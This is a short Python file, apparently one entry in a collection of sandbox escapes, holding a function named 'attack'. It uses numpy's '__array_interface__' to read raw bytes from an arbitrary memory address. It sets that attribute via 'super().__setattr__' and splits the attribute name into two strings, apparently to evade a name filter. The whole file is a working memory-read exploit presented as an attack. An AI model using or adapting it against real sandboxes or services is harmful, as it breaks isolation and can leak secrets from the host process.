"""Class: memory. Source: own find. Escape: the same, by `super().__setattr__`."""

import numpy as np


class A:
    def put(self, name, value):
        super().__setattr__(name, value)


def attack(model, tokenizer, address):
    a = A()
    spec = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    a.put("__array_" + "interface__", spec)
    return np.array(a).tobytes()
